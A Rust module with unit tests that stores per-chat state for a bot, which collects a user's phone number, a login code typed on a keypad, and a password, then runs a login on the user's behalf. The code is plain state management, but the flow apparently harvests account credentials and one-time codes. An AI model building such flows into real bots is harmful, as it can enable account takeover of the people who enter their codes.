use std::collections::HashMap;
use std::sync::{Arc, Mutex, MutexGuard};
use std::sync::atomic::{AtomicU64, Ordering};

use crate::reply::Reply;

/// Where a conversation currently is
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Stage {
    AwaitingPhone,
    AwaitingCode,
    AwaitingPassword,
    Terminated,
}

/// Everything collected from one user so far
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Conversation {
    /// Tells a restarted conversation apart from the one it replaced
    pub id: u64,
    pub stage: Stage,
    pub phone: Option<String>,
    /// Digits entered on the keypad
    pub code: String,
    pub password: Option<String>,
    /// A login call for this conversation has not returned yet
    pub in_flight: bool,
    /// Last content shown on the keypad message
    pub keypad: Option<Reply>,
}

impl Conversation {
    /// Fresh conversation waiting for the phone number
    pub fn new() -> Conversation {
        Conversation {
            id: 0,
            stage: Stage::AwaitingPhone,
            phone: None,
            code: String::new(),
            password: None,
            in_flight: false,
            keypad: None,
        }
    }
}

impl Default for Conversation {
    fn default() -> Self {
        Self::new()
    }
}

/// Conversations by chat id.
///
/// Cloning gives another handle to the same map. Terminated conversations are
/// removed, so a missing entry and `Stage::Terminated` mean the same thing.
#[derive(Debug, Clone, Default)]
pub struct ConversationStore {
    inner: Arc<Mutex<HashMap<i64, Conversation>>>,
    next_id: Arc<AtomicU64>,
}

impl ConversationStore {
    pub fn new() -> ConversationStore {
        ConversationStore::default()
    }

    fn lock(&self) -> MutexGuard<'_, HashMap<i64, Conversation>> {
        // Poisoned only if another handler panicked, the map is still usable
        self.inner.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// Start over, dropping anything left from a previous run
    pub fn start(&self, chat: i64) -> Conversation {
        let id = self.next_id.fetch_add(1, Ordering::Relaxed) + 1;
        let conversation = Conversation { id, ..Conversation::new() };
        self.lock().insert(chat, conversation.clone());
        conversation
    }

    /// Snapshot of the current conversation
    pub fn get(&self, chat: i64) -> Option<Conversation> {
        self.lock().get(&chat).cloned()
    }

    /// Current stage, `Terminated` if there is no conversation
    pub fn stage(&self, chat: i64) -> Stage {
        self.lock().get(&chat).map(|c| c.stage).unwrap_or(Stage::Terminated)
    }

    /// Modify a live conversation, returns the updated copy
    pub fn update<F>(&self, chat: i64, f: F) -> Option<Conversation>
    where
        F: FnOnce(&mut Conversation)
    {
        let mut conversations = self.lock();
        let conversation = conversations.get_mut(&chat)?;
        f(conversation);
        if conversation.stage == Stage::Terminated {
            return conversations.remove(&chat);
        }
        Some(conversation.clone())
    }

    /// Take the conversation's single login slot if it is at `stage` and no login is running.
    /// `f` runs under the same lock, so two concurrent claims can't both succeed.
    pub fn claim<F>(&self, chat: i64, stage: Stage, f: F) -> Option<Conversation>
    where
        F: FnOnce(&mut Conversation)
    {
        let mut conversations = self.lock();
        let conversation = conversations.get_mut(&chat)?;
        if conversation.stage != stage || conversation.in_flight {
            return None;
        }
        f(conversation);
        conversation.in_flight = true;
        Some(conversation.clone())
    }

    /// Give back the slot taken by [`claim`](Self::claim) and apply the login's outcome.
    /// `None` if conversation `id` was cancelled or replaced meanwhile.
    pub fn release<F>(&self, chat: i64, id: u64, f: F) -> Option<Conversation>
    where
        F: FnOnce(&mut Conversation)
    {
        let mut conversations = self.lock();
        let conversation = conversations.get_mut(&chat).filter(|c| c.id == id)?;
        conversation.in_flight = false;
        f(conversation);
        if conversation.stage == Stage::Terminated {
            return conversations.remove(&chat);
        }
        Some(conversation.clone())
    }

    /// Terminate and forget, returns what was collected
    pub fn end(&self, chat: i64) -> Option<Conversation> {
        self.lock().remove(&chat).map(|mut c| {
            c.stage = Stage::Terminated;
            c
        })
    }

    /// Number of live conversations
    pub fn len(&self) -> usize {
        self.lock().len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_start_resets() {
        let store = ConversationStore::new();
        store.start(1);
        store.update(1, |c| {
            c.phone = Some("+15551234567".to_string());
            c.code = "123".to_string();
            c.stage = Stage::AwaitingCode;
        });
        assert_eq!(store.stage(1), Stage::AwaitingCode);

        let fresh = store.start(1);
        assert_eq!(fresh, Conversation { id: fresh.id, ..Conversation::new() });
        assert_eq!(store.get(1), Some(fresh));
    }

    #[test]
    fn test_restart_gets_new_id() {
        let store = ConversationStore::new();
        let first = store.start(1);
        let second = store.start(1);
        assert_ne!(first.id, second.id);
        assert_ne!(store.start(2).id, second.id);
    }

    #[test]
    fn test_claim_once() {
        let store = ConversationStore::new();
        let id = store.start(1).id;
        store.update(1, |c| c.stage = Stage::AwaitingCode);

        assert_eq!(store.claim(1, Stage::AwaitingPassword, |_| {}), None);
        let claimed = store.claim(1, Stage::AwaitingCode, |c| c.code = "12345".to_string()).unwrap();
        assert!(claimed.in_flight);
        assert_eq!(claimed.code, "12345");
        assert_eq!(store.claim(1, Stage::AwaitingCode, |c| c.code = "99999".to_string()), None);
        assert_eq!(store.get(1).unwrap().code, "12345");

        let released = store.release(1, id, |c| c.stage = Stage::AwaitingPassword).unwrap();
        assert!(!released.in_flight);
        assert!(store.claim(1, Stage::AwaitingPassword, |_| {}).is_some());
    }

    #[test]
    fn test_release_after_restart() {
        let store = ConversationStore::new();
        let old = store.start(1).id;
        store.update(1, |c| c.stage = Stage::AwaitingCode);
        store.claim(1, Stage::AwaitingCode, |_| {}).unwrap();

        store.start(1);
        assert_eq!(store.release(1, old, |c| c.stage = Stage::Terminated), None);
        assert_eq!(store.stage(1), Stage::AwaitingPhone);

        store.end(1);
        assert_eq!(store.release(1, old, |_| {}), None);
    }

    #[test]
    fn test_update_missing() {
        let store = ConversationStore::new();
        assert_eq!(store.update(7, |c| c.stage = Stage::AwaitingCode), None);
        assert_eq!(store.stage(7), Stage::Terminated);
        assert!(store.is_empty());
    }

    #[test]
    fn test_terminate_removes() {
        let store = ConversationStore::new();
        store.start(1);
        store.start(2);

        let last = store.update(1, |c| c.stage = Stage::Terminated).unwrap();
        assert_eq!(last.stage, Stage::Terminated);
        assert_eq!(store.get(1), None);

        let ended = store.end(2).unwrap();
        assert_eq!(ended.stage, Stage::Terminated);
        assert_eq!(store.end(2), None);
        assert!(store.is_empty());
    }

    #[test]
    fn test_handles_share_state() {
        let store = ConversationStore::new();
        let other = store.clone();
        store.start(5);
        other.update(5, |c| c.code.push('4'));
        assert_eq!(store.get(5).unwrap().code, "4");
        assert_eq!(store.len(), 1);
    }
}
